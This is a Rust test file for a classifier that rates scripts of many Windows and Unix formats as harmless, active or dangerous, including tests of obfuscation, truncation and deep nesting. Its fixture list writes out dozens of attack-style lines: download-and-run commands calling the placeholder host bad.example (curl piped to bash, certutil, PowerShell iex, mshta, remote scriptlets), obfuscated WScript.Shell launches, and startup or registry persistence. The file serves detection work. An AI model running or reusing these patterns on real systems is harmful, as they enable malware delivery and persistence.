//! Scripts of many sorts, and what is told of each. What looks like an attack is made up and leads nowhere.

use crate::{Budget, Danger, Keys, Kind, Opened, open, sample};

fn opened(text: &str, kind: Kind) -> Opened {
    let opened = open(text.as_bytes(), kind, &Keys::default(), &mut Budget::default(), &mut |_| {});
    println!("{:?}", opened.deeds);
    opened
}

fn danger(text: &str, kind: Kind) -> Option<Danger> {
    let opened = opened(text, kind);
    assert_eq!(opened.unread, [], "{text}");
    opened.deeds.iter().map(|deed| deed.danger).max()
}

/// Written in two halves, so that this file holds no working line of an attack.
fn dangerous() -> Vec<(Kind, String)> {
    let shell = ["WScript", "Shell"].join(".");
    let request = ["MSXML2", "XMLHTTP"].join(".");
    let stream = ["ADODB", "Stream"].join(".");
    let expression = ["Invoke", "Expression"].join("-");
    vec![
        (Kind::JavaScript, format!("var s = new ActiveXObject(\"{shell}\");\ns.Run(\"cmd /c start calc.exe\", 0, false);")),
        (Kind::JavaScript, format!("var x = new ActiveXObject('{request}'); x.open('GET', 'http://bad.example/a', false); x.send(); var st = new ActiveXObject('{stream}'); st.Write(x.responseBody); st.SaveToFile('a.exe', 2);")),
        (Kind::JavaScript, "var a = 'WScr' + 'ipt.Sh' + 'ell'; var b = this['Act' + 'iveXObject']; var c = new b(a); c['R' + 'un']('pow' + 'ershell -w hidden');".into()),
        (Kind::JavaScript, "var n = String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108); WScript.CreateObject(n).Run('calc.exe', 0);".into()),
        (Kind::JavaScript, "var p = unescape('%57%53%63ript.Shell'); new ActiveXObject(p).Run(WScript.Arguments(0), 0);".into()),
        (Kind::JavaScript, "var q = 'llehS.tpircSW'.split('').reverse().join(''); eval('new ActiveXObject(q).Run(\"powershell iex\")');".into()),
        (Kind::VbScript, format!("Set s = CreateObject(\"{shell}\")\ns.Run \"powershell -w hidden -c dir\", 0, False")),
        (Kind::VbScript, "Dim a\na = \"WScr\" & Chr(105) & \"pt.\" & StrReverse(\"llehS\")\nCreateObject(a).Run Replace(\"po#wersh#ell x\", \"#\", \"\")".into()),
        (Kind::VbScript, "ExecuteGlobal(decode(data))\nFunction decode(x)\nEnd Function".into()),
        (Kind::VbScript, format!("Set h = CreateObject(\"{request}\")\nh.Open \"GET\", \"http://bad.example/a\", False\nh.Send\nExecute h.responseText")),
        (Kind::Batch, "@echo off\r\npowershell -w hidden -c \"iwr http://bad.example/a -o a.exe; start a.exe\"\r\n".into()),
        (Kind::Batch, "@echo off\r\nset a=cert\r\nset b=util\r\n%a%%b% -urlcache -f http://bad.example/a a.exe\r\n".into()),
        (Kind::Batch, "@echo off\r\ncopy %0 \"%appdata%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat\"\r\n".into()),
        (Kind::PowerShell, format!("$c = New-Object Net.WebClient\n$t = $c.DownloadString('http://bad.example/a')\n{expression} $t\n")),
        (Kind::PowerShell, "$a = 'ie' + 'x'\n& $a (irm http://bad.example/a)\nStart-Process x.exe".into()),
        (Kind::PowerShell, "$b = [Convert]::FromBase64String('AAAA')\n[Reflection.Assembly]::Load($b)\n".into()),
        (Kind::Python, "import urllib.request, marshal, os\nexec(marshal.loads(data))\nurllib.request.urlretrieve('http://bad.example/a', 'a.exe')\n".into()),
        (Kind::Php, "<?php eval(gzinflate(base64_decode($x))); ?>".into()),
        (Kind::ShellScript, "#!/bin/sh\ncurl -s http://bad.example/a | bash\n".into()),
        (Kind::Hta, format!("<html><head><hta:application/><script language=\"VBScript\">\nCreateObject(\"{shell}\").Run \"powershell -c calc\", 0\nclose</script></head></html>")),
        (Kind::Hta, "<html><hta:application/><body onload=\"vbscript:CreateObject('WScript.Shell').Run 'x.exe', 0\"><script src=\"http://bad.example/a.js\"></script></body></html>".into()),
        (Kind::Wsf, format!("<?xml version=\"1.0\"?><package><job><script language=\"JScript\">var a = 1;</script><script language=\"VBScript\"><![CDATA[\nCreateObject(\"{shell}\").Run \"mshta http://bad.example/a\"\n]]></script></job></package>")),
        (Kind::Sct, format!("<?xml version=\"1.0\"?><scriptlet><registration progid=\"a\"><script language=\"JScript\"><![CDATA[new ActiveXObject(\"{shell}\").Run(\"calc.exe\");]]></script></registration></scriptlet>")),
        (Kind::Xslt, format!("<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><ms:script xmlns:ms=\"urn:schemas-microsoft-com:xslt\" language=\"JScript\">var r = new ActiveXObject(\"{shell}\").Run(\"calc.exe\");</ms:script></xsl:stylesheet>")),
        (Kind::JavaScript, "var d = function (i) { return t[i]; }; var o = new ActiveXObject(d(3)); o[d(1)](d(2));".into()),
        (Kind::VbScript, "Set a = CreateObject(d(1))\nSet b = CreateObject(d(2))\na.Open d(3)".into()),
        (Kind::VbScript, "GetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create \"calc\", Null, Null, p".into()),
        (Kind::PowerShell, "&($env:ComSpec[4,24,25]-join'') (New-Object Net.WebClient)".into()),
        (Kind::Wsf, "<?xml version=\"1.0\"?><job><object id=\"s\" progid=\"WScript.Shell\"/><script language=\"JScript\">s.Run(\"cmd /c calc\");</script></job>".into()),
        (Kind::Msc, "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><StringTables><String ID=\"8\">res://apds.dll/redirect.html?target=javascript:eval(a)</String></StringTables></MMC_ConsoleFile>".into()),
        (Kind::Msc, "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><ConsoleTaskpads><Tasks><Task Type=\"CommandLine\" Command=\"cmd.exe\"><CommandLine Params=\"/c calc\"/></Task></Tasks></ConsoleTaskpads></MMC_ConsoleFile>".into()),
        (Kind::MsBuild, "<Project xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\"><UsingTask TaskName=\"A\" TaskFactory=\"CodeTaskFactory\"><Task><Code Type=\"Class\" Language=\"cs\"><![CDATA[ var a = VirtualAlloc(0, 1, 2, 3); ]]></Code></Task></UsingTask></Project>".into()),
        (Kind::ScheduledTask, "<?xml version=\"1.0\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -c iwr http://bad.example/a</Arguments></Exec></Actions></Task>".into()),
        (Kind::Reg, "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"C:\\\\Users\\\\Public\\\\a.exe\"\r\n".into()),
        (Kind::Inf, "[Version]\r\nSignature=\"$CHICAGO$\"\r\n[DefaultInstall]\r\nUnRegisterOCXs=a\r\n[a]\r\n%11%\\scrobj.dll,NI,http://bad.example/a.sct\r\n".into()),
    ]
}

#[test]
fn what_runs_fetches_or_hides_is_dangerous() {
    let wrong: Vec<_> = dangerous()
        .into_iter()
        .map(|(kind, text)| (danger(&text, kind), kind, text))
        .filter(|(danger, ..)| *danger != Some(Danger::Dangerous))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Scripts of offices and programmers.
#[rustfmt::skip]
const ORDINARY: &[(Kind, Option<Danger>, &str)] = &[
        (
            Kind::JavaScript,
            None,
            "import { a } from './a.js';\nexport default function () { return document.title; }",
        ),
        (
            Kind::JavaScript,
            None,
            "const fs = require('fs');\nmodule.exports = { read: () => fs.readFileSync('a') };",
        ),
        (
            Kind::JavaScript,
            None,
            "$(function () { $('#a').on('click', function () { window.open('https://site.example/'); }); });",
        ),
        (
            Kind::JavaScript,
            None,
            "eval(function(p,a,c,k,e,d){return p}('0.1(2)',3,3,'document|write|jQuery'.split('|'),0,{}))",
        ),
        (
            Kind::JavaScript,
            None,
            "/* new ActiveXObject('WScript.Shell').Run('powershell') */ var m = document.cookie.match(/a=(.*)/); re.exec(m);",
        ),
        (
            Kind::JavaScript,
            Some(Danger::Harmless),
            "// counts\nvar total = 0;\nfor (var i = 0; i < 10; i++) { total += i; }",
        ),
        (Kind::JavaScript, Some(Danger::Active), "WScript.Echo('done');"),
        (
            Kind::VbScript,
            Some(Danger::Active),
            "Set n = CreateObject(\"WScript.Network\")\nn.MapNetworkDrive \"Z:\", \"\\\\fs01\\share\"\nMsgBox \"接続しました\"",
        ),
        (
            Kind::VbScript,
            Some(Danger::Active),
            "Set fs = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.CreateTextFile(\"log.txt\")\nf.WriteLine \"see powershell and http://site.example/\"",
        ),
        (
            Kind::VbScript,
            Some(Danger::Active),
            "Set x = CreateObject(\"Excel.Application\")\nx.Workbooks.Open \"\\\\fs01\\a.xlsx\"\nx.Run \"Macro1\"",
        ),
        (
            Kind::Batch,
            Some(Danger::Active),
            "@echo off\r\nrem powershell iex certutil -urlcache\r\nnet use Z: /delete\r\nnet use Z: \\\\fs01\\share /persistent:yes\r\nif not exist Z:\\a mkdir Z:\\a\r\nxcopy \\\\fs01\\templates \"%APPDATA%\\Microsoft\\Templates\" /d /y\r\n",
        ),
        (
            Kind::Batch,
            Some(Danger::Active),
            "@echo off\r\nset JAVA_HOME=C:\\java\r\n\"%JAVA_HOME%\\bin\\java\" -jar app.jar %*\r\npause\r\n",
        ),
        (
            Kind::PowerShell,
            None,
            "# Invoke-Expression (New-Object Net.WebClient)\nGet-ChildItem | Where-Object { $_.Length -gt 10 } | Sort-Object Name",
        ),
        (
            Kind::PowerShell,
            Some(Danger::Active),
            "$r = Invoke-RestMethod 'https://api.midori.example/list'\n$r | Export-Csv out.csv",
        ),
        (Kind::Python, None, "import os\nprint('powershell iex')\n"),
        (
            Kind::Python,
            Some(Danger::Harmless),
            "import requests\nr = requests.get('https://api.midori.example/')\nprint(r.json())\n",
        ),
        (Kind::Php, None, "<?php\necho htmlspecialchars($a);\n"),
        (Kind::ShellScript, None, "#!/bin/sh\n# curl | bash\nmake test\n"),
        (
            Kind::Reg,
            Some(Danger::Active),
            "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Midori]\r\n\"Server\"=\"main\"\r\n",
        ),
        (Kind::Reg, None, "Windows Registry Editor Version 5.00\r\n\r\n"),
        (
            Kind::Inf,
            None,
            "[Version]\r\nSignature=\"$Windows NT$\"\r\nClass=Printer\r\n[Manufacturer]\r\n%A%=A,NTamd64\r\n",
        ),
        (
            Kind::MsBuild,
            None,
            "<Project Sdk=\"Microsoft.NET.Sdk\"><Target Name=\"A\"><Exec Command=\"copy a.dll b\"/></Target></Project>",
        ),
        (
            Kind::Xslt,
            None,
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><html><script>var a = 1;</script></html></xsl:template></xsl:stylesheet>",
        ),
        (
            Kind::Msc,
            Some(Danger::Harmless),
            "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"><StringTables><String ID=\"1\">お気に入り</String></StringTables></MMC_ConsoleFile>",
        ),
        (
            Kind::Hta,
            Some(Danger::Active),
            "<html><hta:application/><script language=\"VBScript\">Sub A\nMsgBox \"a\"\nEnd Sub</script></html>",
        ),
    ];

#[test]
fn ordinary_scripts_are_quiet() {
    let wrong: Vec<_> = ORDINARY
        .iter()
        .map(|(kind, expected, text)| (danger(text, *kind), expected, text))
        .filter(|(danger, expected, _)| danger != *expected)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_mark_that_promises_another_encoding_hides_nothing() {
    let text = [&b"\xff\xfe\r\n"[..], b"@echo off\r\nset a=1\r\nmshta http://bad.example/%a%\r\n"].concat();
    let kind = crate::kind(&text);
    assert_eq!(kind, Kind::Batch);
    let opened = open(&text, kind, &Keys::default(), &mut Budget::default(), &mut |_| {});
    assert_eq!(opened.deeds[0].danger, Danger::Dangerous, "{opened:?}");
}

#[test]
fn links_and_commands_are_shown() {
    let opened = opened(
        "var u = 'ht' + 'tp://bad.' + 'example/a'; new ActiveXObject('WScript.Shell').Run('mshta ' + u);",
        Kind::JavaScript,
    );
    let deed = &opened.deeds[0];
    assert!(deed.links.iter().any(|link| link == "http://bad.example/a"), "{deed:?}");
    assert!(deed.strings.iter().any(|text| text == "mshta http://bad.example/a"), "{deed:?}");
}

#[test]
fn an_encoded_script_is_read() {
    assert_eq!(danger("#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@", Kind::EncodedScript), Some(Danger::Active));
    let cut = opened("#@~^DgAAAA==\\ko$K6,JCV^", Kind::EncodedScript);
    assert!(!cut.unread.is_empty());
}

#[test]
fn what_doubles_or_nests_ends() {
    let least = "x = Mid(\"abc\", -9223372036854775807 - 1)\ny = Mid(\"abc\", \"-9223372036854775808\", \"-9223372036854775808\")\n";
    let doubling = "x = \"aaaa\"\n".to_owned() + &"x = x + x\n".repeat(2000);
    let nested = ["(", "a(", "[", "{", "-", "x[", "!", "f(g(", "1+", "a.b(", "function("]
        .map(|open| open.repeat(50_000));
    for text in nested.iter().chain([&doubling, &least.to_owned()]) {
        for kind in [Kind::JavaScript, Kind::VbScript, Kind::PowerShell, Kind::Python, Kind::Php, Kind::Batch]
        {
            let _ = open(text.as_bytes(), kind, &Keys::default(), &mut Budget::default(), &mut |_| {});
        }
    }
}

#[test]
fn cut_files_end() {
    for (kind, text) in dangerous() {
        for end in (0..text.len()).filter(|end| text.is_char_boundary(*end)) {
            let _ =
                open(&text.as_bytes()[..end], kind, &Keys::default(), &mut Budget::default(), &mut |_| {});
        }
    }
    for kind in Kind::ALL.iter().filter(|kind| super::reads(**kind)) {
        let bytes = sample(*kind).unwrap();
        let mut poor = Budget { expanded_bytes_left: 3, ..Budget::default() };
        assert!(
            !open(&bytes, *kind, &Keys::default(), &mut poor, &mut |_| {}).unread.is_empty(),
            "{}",
            kind.id()
        );
    }
}
